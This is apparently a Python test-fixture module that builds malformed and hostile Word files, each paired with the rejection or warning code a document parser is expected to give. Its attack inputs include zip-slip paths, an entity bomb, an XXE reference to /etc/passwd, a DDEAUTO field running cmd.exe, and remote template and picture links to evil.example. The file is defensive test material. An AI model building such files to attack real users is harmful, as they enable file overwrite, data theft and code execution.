"""Word files as the world makes them, and as it should not: each made by a function, none kept as bytes.

``REFUSED`` are those that must not be read, each with its code; ``READ`` those that must be, each with the
codes of what is told about it. Every function's name says what its file is.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.support.word_making import (
    NAMESPACES,
    PLAIN,
    STRICT,
    R,
    W,
    changed,
    field,
    listed,
    mark,
    p,
    packed,
    parts,
    r,
    relation,
    relations,
    styled,
    table,
    word,
)

# ── what must be refused ─────────────────────────────────────────────────────────────────────────────────


def empty_file() -> bytes:
    return b""


def a_pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"


def rich_text() -> bytes:
    return b"{\\rtf1\\ansi Staff must.}"


def a_web_page() -> bytes:
    return b"<!DOCTYPE html><html><body>Staff must.</body></html>"


def random_bytes() -> bytes:
    return bytes(range(256)) * 8


def old_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le")


def with_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def zip_with_a_password() -> bytes:
    data = bytearray(word(PLAIN))
    local, central = data.index(b"PK\3\4"), data.index(b"PK\1\2")
    data[local + 6] |= 1
    data[central + 8] |= 1
    return bytes(data)


def a_workbook() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return packed(parts("", main=main))


def an_open_document() -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": "<x/>"})


def another_zip() -> bytes:
    return packed({"holiday.txt": "sun"})


def zip_of_nothing() -> bytes:
    return packed({})


def cut_short() -> bytes:
    data = word(PLAIN)
    return data[: len(data) * 2 // 3]


def a_wrong_checksum() -> bytes:
    data = bytearray(packed(parts(PLAIN), zipfile.ZIP_STORED))
    at = data.index(b"passwords")
    data[at : at + 9] = b"birthdays"
    return bytes(data)


def broken_xml() -> bytes:
    files = parts(PLAIN)
    return packed({**files, "word/document.xml": str(files["word/document.xml"])[:-20]})


def xml_in_an_odd_encoding() -> bytes:
    files = parts(PLAIN)
    text = '<?xml version="1.0" encoding="UTF-7"?>' + str(files["word/document.xml"])
    return packed({**files, "word/document.xml": text})


def with_macros() -> bytes:
    overrides = (
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return packed({**parts(PLAIN, main=main, overrides=overrides), "word/vbaProject.bin": b"\0"})


def with_a_hidden_macro() -> bytes:
    return word(PLAIN, relation("rId9", "vbaProject", "picture.png"), picture="<x/>")


def strict_open_xml() -> bytes:
    files = {
        name: content.replace(W, f"{STRICT}/wordprocessingml/main").replace(
            R, f"{STRICT}/officeDocument/relationships"
        )
        for name, content in parts(PLAIN).items()
        if isinstance(content, str)
    }
    return packed(files)


def ten_thousand_entries() -> bytes:
    return packed({**parts(PLAIN), **{f"x/{number}": "" for number in range(10_001)}}, zipfile.ZIP_STORED)


def a_large_entry() -> bytes:
    # Half of it cannot be made smaller, so it is no bomb; it is only too large.
    noise = b"".join(struct.pack("<I", (n * 2654435761) % 2**32) for n in range(1 << 16))
    return packed({**parts(PLAIN), "word/media/film.bin": noise * (101 * 4)})


def a_large_part() -> bytes:
    text = "".join(f"{number:x} must not; " for number in range(2_600_000))
    return packed(parts(p(text)))


def a_bomb() -> bytes:
    return packed({**parts(PLAIN), "word/media/bomb.bin": bytes(50 << 20)})


def a_million_tags() -> bytes:
    return packed(parts(p(f"<w:r><w:tab/></w:r>{'<w:r/>' * 3_000_000}")), zipfile.ZIP_STORED)


def entries_that_overlap() -> bytes:
    """Two entries of the directory for the same bytes."""
    data = word(PLAIN)
    start = data.index(b"PK\1\2")
    end = data.index(b"PK\5\6")
    directory, tail = data[start:end], bytearray(data[end:])
    name_length = struct.unpack_from("<H", directory, 28)[0]
    first = bytearray(directory[: 46 + name_length])
    first[46] = ord("x")
    struct.pack_into("<HHL", tail, 8, 7, 7, len(directory) + len(first))
    return data[:start] + directory + bytes(first) + bytes(tail)


def the_same_name_twice() -> bytes:
    buffer = io.BytesIO(word(PLAIN))
    with zipfile.ZipFile(buffer, "a") as package:
        package.writestr("Word/Document.XML", "<x/>")
    return buffer.getvalue()


def a_name_that_leads_out() -> bytes:
    return packed({**parts(PLAIN), "../../etc/cron.d/x": "y"})


def a_windows_name_that_leads_out() -> bytes:
    return packed({**parts(PLAIN), "..\\..\\x.exe": "y"})


def an_entity_bomb() -> bytes:
    files = parts(p("&b;"))
    entities = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return packed({**files, "word/document.xml": entities + str(files["word/document.xml"])})


def an_entity_in_a_part_beside() -> bytes:
    return word(PLAIN, header1='<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')


def an_entity_in_utf_16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    return packed({**parts(PLAIN), "customXml/item1.xml": text.encode("utf-16")})


def a_template_elsewhere() -> bytes:
    files = parts(PLAIN)
    rels = relations(relation("rId1", "attachedTemplate", "https://evil.example/x.dotm", external=True))
    return packed({**files, "word/settings.xml": "<x/>", "word/_rels/settings.xml.rels": rels})


def a_picture_elsewhere() -> bytes:
    return word(PLAIN, relation("rId9", "image", "https://evil.example/x.png", external=True))


def an_object_elsewhere() -> bytes:
    return word(PLAIN, relation("rId9", "oleObject", "file://server/share/x.xlsx", external=True))


def a_document_within() -> bytes:
    return word(PLAIN, relation("rId9", "subDocument", "chapter.docx", external=True))


def a_chunk_of_html() -> bytes:
    return word(f'{PLAIN}<w:altChunk r:id="rId9"/>', relation("rId9", "aFChunk", "afchunk.html"))


def an_activex_control() -> bytes:
    return packed({**parts(PLAIN), "word/activeX/activeX1.xml": "<x/>"})


def a_control_by_relation() -> bytes:
    return word(PLAIN, relation("rId9", "control", "control1.xml"), control1="<x/>")


def a_dde_field_in_pieces() -> bytes:
    return word(p(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', r("!"))))


def an_include_field() -> bytes:
    return word(
        p('<w:fldSimple w:instr=" INCLUDETEXT \\\\\\\\server\\\\x.docx ">' + r("x") + "</w:fldSimple>")
    )


def an_include_field_in_the_header() -> bytes:
    header = f"<w:hdr {NAMESPACES}>{p(field('INCLUDEPICTURE https://evil.example/x', ''))}</w:hdr>"
    return word(PLAIN, header1=header)


def a_field_within_a_field() -> bytes:
    inner = field(" LINK Excel.Sheet ", r("x"))
    return word(p(mark("begin") + "<w:r><w:instrText> IF </w:instrText></w:r>" + inner + mark("end")))


def a_million_paragraphs() -> bytes:
    return word("<w:p/>" * 60_000 + "<w:p></w:p>" * 60_000)


def a_million_paragraphs_packed_tightly() -> bytes:
    return word("<w:p/>" * 1_000_000)


def tables_256_deep() -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 256 + p("x") + ("<w:p/></w:tc></w:tr></w:tbl>" * 256))


def a_table_too_wide() -> bytes:
    wide = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 20_000 + "</w:tr>"
    return word(f"<w:tbl>{wide}{'<w:tr><w:tc><w:p/></w:tc></w:tr>' * 20_000}</w:tbl>")


Maker = Callable[[], bytes]
REFUSED: Mapping[Maker, str] = {
    empty_file: "PK501",
    a_pdf: "PK501",
    rich_text: "PK501",
    a_web_page: "PK501",
    random_bytes: "PK501",
    a_workbook: "PK501",
    an_open_document: "PK501",
    another_zip: "PK501",
    zip_of_nothing: "PK501",
    old_doc: "PK502",
    with_a_password: "PK503",
    zip_with_a_password: "PK503",
    with_macros: "PK504",
    with_a_hidden_macro: "PK504",
    strict_open_xml: "PK505",
    cut_short: "PK506",
    a_wrong_checksum: "PK506",
    broken_xml: "PK506",
    xml_in_an_odd_encoding: "PK506",
    ten_thousand_entries: "PK507",
    a_large_entry: "PK508",
    a_large_part: "PK508",
    a_million_tags: "PK508",
    a_table_too_wide: "PK508",
    a_bomb: "PK509",
    a_million_paragraphs_packed_tightly: "PK509",
    entries_that_overlap: "PK510",
    the_same_name_twice: "PK510",
    a_name_that_leads_out: "PK511",
    a_windows_name_that_leads_out: "PK511",
    an_entity_bomb: "PK512",
    an_entity_in_a_part_beside: "PK512",
    an_entity_in_utf_16: "PK512",
    a_template_elsewhere: "PK513",
    a_picture_elsewhere: "PK513",
    an_object_elsewhere: "PK513",
    a_document_within: "PK513",
    a_chunk_of_html: "PK514",
    an_activex_control: "PK515",
    a_control_by_relation: "PK515",
    a_dde_field_in_pieces: "PK516",
    an_include_field: "PK516",
    an_include_field_in_the_header: "PK516",
    a_field_within_a_field: "PK516",
    a_million_paragraphs: "PK517",
    tables_256_deep: "PK518",
}


# ── what must be read ────────────────────────────────────────────────────────────────────────────────────


def almost_nothing() -> bytes:
    return word("")


def an_empty_paragraph() -> bytes:
    return word(p("") + p(r("   ")))


def a_template() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    return packed(parts(PLAIN, main=main))


def a_template_on_a_computer() -> bytes:
    files = parts(PLAIN)
    rels = relations(relation("rId1", "attachedTemplate", "file:///C:\\\\x\\\\Normal.dotm", external=True))
    return packed({**files, "word/settings.xml": "<x/>", "word/_rels/settings.xml.rels": rels})


def without_styles() -> bytes:
    files = parts(styled("Heading1", "Rules") + PLAIN)
    del files["word/styles.xml"]
    return packed(files)


def without_numbering() -> bytes:
    files = parts(listed(1, 0, "share nothing"))
    del files["word/numbering.xml"]
    return packed(files)


def without_relations() -> bytes:
    files = parts(PLAIN)
    del files["word/_rels/document.xml.rels"], files["_rels/.rels"], files["[Content_Types].xml"]
    return packed(files)


def a_relation_to_nothing() -> bytes:
    return word(p('<w:hyperlink r:id="rId77">' + r("the Act") + "</w:hyperlink>"))


def without_a_body() -> bytes:
    return packed({**parts(""), "word/document.xml": f"<w:document {NAMESPACES}/>"})


def in_utf_16() -> bytes:
    files = parts(PLAIN)
    text = f'<?xml version="1.0" encoding="UTF-16"?>{files["word/document.xml"]!s}'
    return packed({**files, "word/document.xml": text.encode("utf-16")})


def with_another_prefix() -> bytes:
    files = parts(PLAIN)
    text = str(files["word/document.xml"]).replace("<w:", "<ns0:").replace("</w:", "</ns0:")
    return packed({**files, "word/document.xml": text.replace("xmlns:w=", "xmlns:ns0=")})


def with_somebodys_changes() -> bytes:
    return word(
        p(r("must ") + changed("del", "<w:r><w:delText>not </w:delText></w:r>") + changed("ins", r("x")))
    )


def a_picture() -> bytes:
    data = '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"/>'
    inline = (
        f'<wp:inline><wp:docPr id="1" name="x" descr="The crest"/><a:graphic>{data}</a:graphic></wp:inline>'
    )
    return word(p(r("The crest: ") + f"<w:r><w:drawing>{inline}</w:drawing></w:r>"))


def a_chart() -> bytes:
    data = '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    return word(p(f"<w:r><w:drawing><wp:inline><a:graphic>{data}</a:graphic></wp:inline></w:drawing></w:r>"))


def an_equation() -> bytes:
    return word(p(r("So ") + "<m:oMath><m:r><m:t>a=b</m:t></m:r></m:oMath>"))


def an_embedded_object() -> bytes:
    return word(p("<w:r><w:object/></w:r>"), relation("rId9", "oleObject", "embeddings/o.bin"))


def a_footnote() -> bytes:
    note = f'<w:footnotes {NAMESPACES}><w:footnote w:id="2">{p("See the Act.")}</w:footnote></w:footnotes>'
    body = p(r("Staff") + '<w:r><w:footnoteReference w:id="2"/></w:r>' + r(" must."))
    return word(body, relation("rId9", "footnotes", "footnotes.xml"), footnotes=note)


def hidden_words() -> bytes:
    return word(p(r("Shown. ") + r("secret", "<w:vanish/>") + r("also", '<w:rStyle w:val="H"/>')))


def words_struck_through() -> bytes:
    return word(p(r("Wear ") + r("black", "<w:strike/>") + r(" socks", "<w:dstrike/>") + r(".")))


def a_link_that_runs() -> bytes:
    link = '<w:hyperlink r:id="rId9">' + r("click") + "</w:hyperlink>"
    return word(p(link), relation("rId9", "hyperlink", "javascript:alert(1)", external=True))


def a_link_to_no_bookmark() -> bytes:
    return word(p('<w:hyperlink w:anchor="gone">' + r("see below") + "</w:hyperlink>"))


def merged_cells() -> bytes:
    span = '<w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>' + p("Both") + "</w:tc>"
    under = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    return word(f"<w:tbl><w:tr>{span}</w:tr><w:tr>{under}<w:tc>{p('x')}</w:tc></w:tr></w:tbl>")


def a_table_in_a_table() -> bytes:
    inner = table(("a", "b"))
    return word(f"<w:tbl><w:tr><w:tc>{p('Outer')}{inner}{p('')}</w:tc></w:tr></w:tbl>")


def tables_20_deep() -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 20 + p("x") + ("<w:p/></w:tc></w:tr></w:tbl>" * 20))


def a_field_never_closed() -> bytes:
    return word(p(mark("begin") + r("Staff must.")) + PLAIN)


def a_contents_never_closed() -> bytes:
    opening = mark("begin") + "<w:r><w:instrText>TOC</w:instrText></w:r>" + mark("separate")
    return word(p(opening + r("Rules 1")) + PLAIN)


def a_style_based_on_itself() -> bytes:
    style = '<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:basedOn w:val="X"/></w:style>'
    return packed(
        {
            **parts(styled("X", "Staff must.")),
            "word/styles.xml": f'<w:styles xmlns:w="{W}">{style}</w:styles>',
        }
    )


def numbers_that_are_none() -> bytes:
    odd = '<w:numPr><w:ilvl w:val="9999999999"/><w:numId w:val="-1"/></w:numPr><w:outlineLvl w:val="x"/>'
    return word(p("Staff must.", odd) + listed(1, 12, "deep") + listed(1, -3, "shallow"))


def a_megabyte_in_one_word() -> bytes:
    return word(p("x" * 1_000_000))


def fifty_thousand_paragraphs() -> bytes:
    return word("".join(listed(1, 0, f"item {number}") for number in range(50_000)))


def a_hundred_thousand_bookmarks() -> bytes:
    marks = "".join(
        f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/><w:bookmarkEnd w:id="{n}"/>' for n in range(100_000)
    )
    return word(p(marks + r("Staff must.")))


def ten_thousand_nested_changes() -> bytes:
    one = changed("ins", changed("del", "<w:r><w:delText>no </w:delText></w:r>") + r("yes "))
    return word("".join(p(one * 10) for _ in range(1_000)))


def changes_60_deep() -> bytes:
    return word(p("<w:ins>" * 60 + r("Staff must.") + "</w:ins>" * 60))


def controls_100_deep() -> bytes:
    return word("<w:sdt><w:sdtContent>" * 100 + PLAIN + "</w:sdtContent></w:sdt>" * 100)


def ten_thousand_fields() -> bytes:
    return word("".join(p(field(" PAGE ", r("7")) * 10) for _ in range(1_000)))


def fields_nested_a_thousand_deep() -> bytes:
    return word(p(mark("begin") * 1_000 + mark("separate") * 1_000 + r("x") + mark("end") * 1_000))


READ: Mapping[Maker, set[str]] = {
    almost_nothing: set(),
    an_empty_paragraph: set(),
    a_template: set(),
    a_template_on_a_computer: {"PK527"},
    without_styles: {"PK520"},
    without_numbering: {"PK520"},
    without_relations: {"PK520"},
    a_relation_to_nothing: {"PK524"},
    without_a_body: set(),
    in_utf_16: set(),
    with_another_prefix: set(),
    with_somebodys_changes: set(),
    a_picture: {"PK521"},
    a_chart: {"PK521"},
    an_equation: {"PK521"},
    an_embedded_object: {"PK521"},
    a_footnote: {"PK522"},
    hidden_words: {"PK523"},
    words_struck_through: {"PK528"},
    a_link_that_runs: {"PK524"},
    a_link_to_no_bookmark: {"PK524"},
    merged_cells: {"PK525"},
    a_table_in_a_table: {"PK525"},
    tables_20_deep: {"PK525"},
    a_field_never_closed: {"PK526"},
    a_contents_never_closed: set(),
    a_style_based_on_itself: set(),
    numbers_that_are_none: {"PK520"},
    a_megabyte_in_one_word: set(),
    fifty_thousand_paragraphs: set(),
    a_hundred_thousand_bookmarks: set(),
    ten_thousand_nested_changes: set(),
    changes_60_deep: set(),
    controls_100_deep: set(),
    ten_thousand_fields: set(),
    fields_nested_a_thousand_deep: set(),
}
